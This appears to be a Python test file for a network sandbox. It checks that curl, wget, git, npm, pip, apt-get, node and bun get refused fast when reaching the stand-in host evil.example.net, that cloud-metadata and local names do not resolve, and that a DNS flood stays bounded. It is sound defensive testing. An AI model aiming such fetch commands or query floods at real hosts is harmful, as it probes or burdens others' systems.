#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# session: user
"""What a client meets at a host that is refused (N32): an answer it gives up on, at once, and never another host's."""
import resource
import time

import place  # first: it finds the harness
import sites
from place import BOTH, NAMESPACE, PYTHON, case, check, closed, get, https, need_program, refusal, statuses, turned_away

RAW = {"host": "raw.example.com", "ports": [80, 443]}
TCP = {"host": "tcp.example.com", "ports": [7777], "mode": "tcp"}
NAME = "evil.example.net"
SPINS_S = 5  # of processor time; npm needs 0.3
GIVES_UP_S = 50  # generous: a client that retries needs 7 s (apt), 8 s (pip), 11 s (cargo), 71 s (npm) on an idle machine
APT = ("d=$PWD/apt; mkdir -p $d/lists/partial $d/cache/archives/partial; : > $d/status; echo 'deb %s://evil.example.net/ x main' > $d/list; "
       "apt-get -o Dir::State=$d -o Dir::State::status=$d/status -o Dir::Cache=$d/cache -o Dir::Etc::SourceList=$d/list "
       "-o Dir::Etc::SourceParts=/dev/null -o Dir::Etc::Parts=/dev/null -o Dir::Etc::Main=/dev/null -o Debug::NoLocking=1 "
       "-o APT::Sandbox::User= update 2>&1")
CLIENTS = {
    "curl": ("curl -sS --retry 3 https://evil.example.net/x 2>&1", "denied by croft policy"),
    "wget": ("wget -O- http://evil.example.net/x 2>&1", "403"),
    "git": ("git ls-remote https://evil.example.net/x.git 2>&1", "403"),
    "npm": ("npm_config_globalconfig=/dev/null npm install --no-audit --no-fund --registry https://evil.example.net/ x 2>&1", "403"),
    "pip": (PYTHON + " -m pip download --disable-pip-version-check --no-cache-dir --index-url https://evil.example.net/simple x 2>&1",
            "No matching distribution"),
    "apt-get": (APT % "http" + "; " + APT % "https", "403"),
    "node": ("node -e 'fetch(\"https://evil.example.net/\").then(r => console.log(r.status), e => console.log(e.cause))'", "403"),
    "bun": ("bun -e 'fetch(\"https://evil.example.net/\").then(r => console.log(r.status), e => console.log(e.code))'", "403"),
}
# With a proxy: what says less. A client that uses none is refused its own lookup, of which no name is known.
IN_PROCESS_TIER = {"curl": "response 403", "node": "code:", "bun": "ERR_PROXY_TUNNEL"}
UNTOLD = ("node",)


def client(name, tier="namespace"):
    @case("N32-%s-gives-up" % name, tiers=(tier,))
    def gives_up(p):
        need_program(name if name != "pip" else "pip3")
        script, want = CLIENTS[name]
        want = IN_PROCESS_TIER.get(name, want) if tier == "process" else want
        before, began = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic()
        r, _ = p.croft_run({"allow": [RAW]}, "/bin/sh", "-c", script)
        took = time.monotonic() - began
        check(want in r.out, "%s, not %s" % (r, want))
        check(took < GIVES_UP_S, "it took %.1f s" % took)
        if tier != "process" or name not in UNTOLD:
            check(p.denied().about(host=NAME), "not told: %s" % p.denied())
        check(not p.world.events("evil"), p.world.events("evil"))
        usage = resource.getrusage(resource.RUSAGE_CHILDREN)
        check(not [q for q in p.world.queries() if "evil" in q], p.world.queries())
        busy = usage.ru_utime + usage.ru_stime - before.ru_utime - before.ru_stime
        check(busy < SPINS_S, "it spins: %.1f s of processor time" % busy)
        return "%.1f s, %.1f s of processor time" % (took, busy)


for each in CLIENTS:
    client(each)
    client(each, "process")


@case("N32-refusal", tiers=NAMESPACE)
def says_why(p):
    """Ports 80 and 443 of a refused name answer with reason and remedy; others reset. One denial for a name and its 403s."""
    steps = [https(NAME, get("/a?b", NAME)), {"do": "http", "host": NAME, "port": 80, "send": [get("/c", NAME)]},
             https(NAME, get("/d", NAME)), {"do": "tcp", "host": NAME, "port": 22, "send": ["x"]},
             {"do": "tcp", "host": NAME, "port": 8080, "send": [get("/", NAME)]},
             {"do": "tcp", "host": NAME, "port": 443, "send": ["SSH-2.0-x\r\n"]}]
    for policy in ({"allow": [RAW]}, {"allow": [TCP]}):  # also where no rule inspects
        found = p.inside(policy, steps)
        for f, port in zip(found[:3], (443, 80, 443)):
            check(statuses(f) == [403], f)
            said = refusal(f)
            check(said["host"] == NAME and str(port) in said["reason"] and "--allow-host " + NAME in said["next"], said)
        check(all(map(closed, found[3:])), found[3:])
        told = [d for d in p.denied().about(host=NAME) if d["port"] not in (22, 8080)]
        check(len(told) == 1 and told[0]["method"] == "DNS" and told[0]["allow_with"] == "--allow-host " + NAME, p.denied())
        check(len(p.denied().about(host=NAME, port=22)) == 1, p.denied())
        net = p.counted()
    check(not net or (net["requests"] == 0 and not net["hosts"]), net)
    check(not p.world.events("evil"), p.world.events("evil"))
    check(not p.world.queries(), p.world.queries())
    check(not any(map(turned_away, p.control(steps[:1]))), "the control does not reach")


@case("N32-names", tiers=NAMESPACE)
def which_names(p):
    """Names that no rule could allow, or that cannot be public, do not exist; a known name's other ports say no, too."""
    never = ("metadata.google.internal", "printer.local", "single", "x.invalid", "_http._tcp.evil.example.net")
    found = p.inside({"allow": [{"host": "raw.example.com", "ports": [443]}]},
                     [{"do": "dns", "name": n, "type": "A"} for n in never] +
                     [{"do": "http", "host": "raw.example.com", "port": 80, "send": [get("/")]}])
    check(all(f["rcode"] == 3 for f in found[:-1]), found)
    check(refusal(found[-1])["reason"] == "no rule allows raw.example.com:80", found[-1])
    check(p.denied().about(host="raw.example.com", port=80), p.denied())
    check(not p.world.events("raw"), p.world.events("raw"))


MANY = r'''
import socket, struct
def ask(name):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
    while True:
        s.send(q)
        try:
            return s.recv(2048)
        except TimeoutError:
            pass
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
s.connect(("198.18.0.1", 53))
first = ask("raw.example.com")[-4:]
codes = [ask("n%d.evil.example.net" % i)[3] & 15 for i in range(4200)]
print("given", codes.count(0), "refused", codes.count(3), "kept", ask("raw.example.com")[-4:] == first)
'''


@case("N32-table", tiers=NAMESPACE)
def bounded(p):
    """Refused names have a table that ends, and push no allowed name out of theirs."""
    r, _ = p.croft_run({"allow": [RAW]}, PYTHON, "-c", MANY, timeout=100)
    check("given 4096 refused 104 kept True" in r.out, r)
    check(not p.world.queries(), p.world.queries())


if __name__ == "__main__":
    place.main()
